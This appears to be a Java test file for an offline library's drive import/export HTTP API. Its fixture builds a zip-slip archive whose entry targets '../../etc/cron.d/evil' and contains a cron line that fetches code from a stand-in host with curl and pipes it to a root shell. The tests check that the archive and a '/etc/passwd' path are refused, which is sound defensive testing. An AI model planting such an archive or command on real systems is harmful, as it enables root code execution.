package org.offlinecommons.drive;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.offlinecommons.job.JobRunner;
import org.offlinecommons.job.Jobs;
import org.offlinecommons.pack.LibrarySnapshot;
import org.offlinecommons.store.Library;
import org.offlinecommons.web.Http;
import org.offlinecommons.web.TestServer;

/** The drives JSON API over real HTTP: listing, importing with jobs, refusing, exporting. */
class DriveApiTest {

    static Path tmp;
    static Path inbox;
    static Path stick;
    static Library library;
    static JobRunner jobs;
    static Http admin;
    static final ObjectMapper json = new ObjectMapper();

    @RegisterExtension
    static final TestServer server = TestServer.secure().with((lib, dir) -> {
        tmp = dir;
        inbox = Files.createDirectories(tmp.resolve("data/inbox"));
        stick = Files.createDirectories(tmp.resolve("media/STICK")).toRealPath();
        DriveFixtures.pack(tmp, "garden", 1, inbox.resolve("garden.zip"));
        DriveFixtures.pack(tmp, "river", 1, stick.resolve("river.zip"));
        Path evil = inbox.resolve("evil.zip");
        try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(evil)) {
            zip.putArchiveEntry(new ZipArchiveEntry("pack.json"));
            zip.write("{}".getBytes());
            zip.closeArchiveEntry();
            zip.putArchiveEntry(new ZipArchiveEntry("../../etc/cron.d/evil"));
            zip.write("* * * * * root curl evil.example | sh".getBytes());
            zip.closeArchiveEntry();
        }
        DriveFixtures.settled(evil);
    }).drives(lib -> new Drives(lib, DriveSettings.of(lib.dataDir())
            .withMountRoots(List.of(lib.dataDir().getParent().resolve("media")))));

    /** A server as {@code serve} starts it without drive settings: the library's inbox and the usual mount roots. */
    @RegisterExtension
    static final TestServer plain = TestServer.secure().with((lib, dir) ->
            DriveFixtures.notAZip(Files.createDirectories(lib.dataDir().resolve("inbox")).resolve("photos.zip")));

    @BeforeAll
    static void logIn() throws Exception {
        library = server.library();
        jobs = server.jobs();
        admin = server.admin();
    }

    @Test
    void listsTheInboxAndDrivesWithEachPacksState() throws Exception {
        HttpResponse<String> r = send("GET", "/api/v1/drives", null);
        assertThat(r.statusCode()).isEqualTo(200);
        JsonNode drives = json.readTree(r.body()).get("drives");
        assertThat(drives).hasSize(2);
        assertThat(drives.get(0).get("inbox").asBoolean()).isTrue();
        assertThat(drives.get(1).get("label").asText()).isEqualTo("STICK");
        assertThat(drives.get(1).get("fileSystem").isTextual()).isTrue();
        Map<String, JsonNode> packs = new HashMap<>();
        drives.forEach(d -> d.get("packs").forEach(p -> packs.put(p.get("file").asText(), p)));
        assertThat(packs.get("river.zip").get("state").asText()).isEqualTo("new");
        assertThat(packs.get("river.zip").get("id").asText()).isEqualTo("river");
        assertThat(packs.get("river.zip").get("path").asText()).isEqualTo(stick.resolve("river.zip").toString());
        assertThat(packs.get("evil.zip").get("state").asText()).isEqualTo("invalid");
        assertThat(packs.get("evil.zip").get("detail").asText())
                .isEqualTo("evil.zip: zip entry '../../etc/cron.d/evil': the path contains"
                        + " a '..' segment");
    }

    @Test
    void aBadPackIsRefusedWith400NamingTheFileAndNothingChanges() throws Exception {
        String before = LibrarySnapshot.of(library);
        HttpResponse<String> r = send("POST", "/api/v1/drives/import",
                Map.of("paths", List.of(inbox.resolve("evil.zip").toString())));
        assertThat(r.statusCode()).isEqualTo(400);
        JsonNode body = json.readTree(r.body());
        assertThat(body.get("error").asText()).isEqualTo("invalid");
        assertThat(body.get("message").asText())
                .isEqualTo("This pack cannot be used: evil.zip: zip entry '../../etc/cron.d/evil': the path contains"
                        + " a '..' segment");
        assertThat(LibrarySnapshot.of(library)).isEqualTo(before);
    }

    @Test
    void theDefaultServerRefusesABadPackInItsInboxToo() throws Exception {
        Path bad = plain.library().dataDir().resolve("inbox/photos.zip");
        HttpResponse<String> r = plain.admin().json("POST", "/api/v1/drives/import",
                Map.of("paths", List.of(bad.toString())));
        assertThat(r.statusCode()).isEqualTo(400);
        JsonNode body = json.readTree(r.body());
        assertThat(body.get("error").asText()).isEqualTo("invalid");
        assertThat(body.get("message").asText()).startsWith("This pack cannot be used: photos.zip: is not a readable zip file");
        assertThat(plain.library().catalog().packs()).isEmpty();
    }

    @Test
    void filesOutsideTheDrivesCannotBeNamed() throws Exception {
        HttpResponse<String> r = send("POST", "/api/v1/drives/import", Map.of("paths", List.of("/etc/passwd")));
        assertThat(r.statusCode()).isEqualTo(404);
        assertThat(json.readTree(r.body()).get("message").asText())
                .isEqualTo("This was not found: /etc/passwd: is not on a drive or in the inbox");
        HttpResponse<String> export = send("POST", "/api/v1/drives/export",
                Map.of("packs", List.of("garden"), "target", tmp.resolve("data").toString()));
        assertThat(export.statusCode()).isEqualTo(404);
        assertThat(json.readTree(export.body()).get("message").asText()).endsWith(": is not a drive or a folder on one");
        HttpResponse<String> garbage = send("POST", "/api/v1/drives/import", "{\"paths\": ");
        assertThat(garbage.statusCode()).isEqualTo(400);
        assertThat(json.readTree(garbage.body()).get("message").asText()).startsWith("The request body must be JSON");
        // What a form could send (not JSON): refused before anything is looked at, even with the admin's token.
        HttpResponse<String> form = admin.send(admin.admin("/api/v1/drives/import").header("Content-Type", "text/plain")
                .POST(HttpRequest.BodyPublishers.ofString("{\"paths\": [\"" + inbox.resolve("garden.zip") + "\"]}")));
        assertThat(form.statusCode()).isEqualTo(415);
        assertThat(jobs.recent()).noneMatch(j -> j.title().contains("garden.zip"));
    }

    @Test
    void importsRunAsJobsAndExportsWriteToTheStick() throws Exception {
        Path meadow = DriveFixtures.pack(tmp, "meadow", 1, inbox.resolve("meadow.zip"));
        Path forest = DriveFixtures.pack(tmp, "forest", 3, stick.resolve("packs/forest.zip"));
        HttpResponse<String> r = send("POST", "/api/v1/drives/import", Map.of("paths", List.of(
                meadow.toString(), forest.toString())));
        assertThat(r.statusCode()).as(r.body()).isEqualTo(202);
        JsonNode started = json.readTree(r.body()).get("jobs");
        assertThat(started).hasSize(2);
        for (JsonNode s : started) {
            JsonNode status = awaitJob(s.get("job").get("url").asText());
            assertThat(status.get("state").asText()).as(status.toString()).isEqualTo("SUCCEEDED");
            assertThat(status.get("doneBytes").asLong()).isEqualTo(status.get("totalBytes").asLong()).isPositive();
        }
        assertThat(started.get(1).get("pack").asText()).isEqualTo("forest");
        assertThat(library.catalog().pack("meadow")).isPresent();
        assertThat(library.catalog().pack("forest").orElseThrow().version()).isEqualTo(3);

        HttpResponse<String> e = send("POST", "/api/v1/drives/export",
                Map.of("packs", List.of("meadow", "forest"), "target", stick.resolve("for-the-next-school").toString()));
        assertThat(e.statusCode()).as(e.body()).isEqualTo(202);
        JsonNode status = awaitJob(json.readTree(e.body()).get("job").get("url").asText());
        assertThat(status.get("state").asText()).as(status.toString()).isEqualTo("SUCCEEDED");
        assertThat(status.get("message").asText()).startsWith("Wrote 2 packs");
        assertThat(stick.resolve("for-the-next-school/meadow-v1.zip")).isRegularFile();
        assertThat(stick.resolve("for-the-next-school/forest-v3.zip")).isRegularFile();

        HttpResponse<String> mirror = send("POST", "/api/v1/drives/export", Map.of("packs", List.of("forest"),
                "target", stick.toString(), "zips", false, "mirror", true));
        assertThat(mirror.statusCode()).as(mirror.body()).isEqualTo(202);
        JsonNode mirrored = awaitJob(json.readTree(mirror.body()).get("job").get("url").asText());
        assertThat(mirrored.get("state").asText()).as(mirrored.toString()).isEqualTo("SUCCEEDED");
        assertThat(mirrored.get("message").asText()).isEqualTo("mirrored 1 pack to " + stick);
        assertThat(stick.resolve("sync/v1/catalog.json")).isRegularFile();
        assertThat(stick.resolve("forest-v3.zip")).doesNotExist();

        HttpResponse<String> unknown = send("POST", "/api/v1/drives/export",
                Map.of("packs", List.of("nope"), "target", stick.toString()));
        assertThat(unknown.statusCode()).isEqualTo(404);
        assertThat(json.readTree(unknown.body()).get("message").asText()).isEqualTo("This was not found: pack 'nope' is not installed");
    }

    /** Waits for the job (never by polling), then reads it as the API shows it. */
    private static JsonNode awaitJob(String url) throws Exception {
        Jobs.await(jobs, url.substring(url.lastIndexOf('/') + 1));
        return json.readTree(send("GET", url, null).body());
    }

    private static HttpResponse<String> send(String method, String path, Object body) throws Exception {
        return body == null ? admin.get(path, "Accept", "application/json") : admin.json(method, path, body);
    }
}
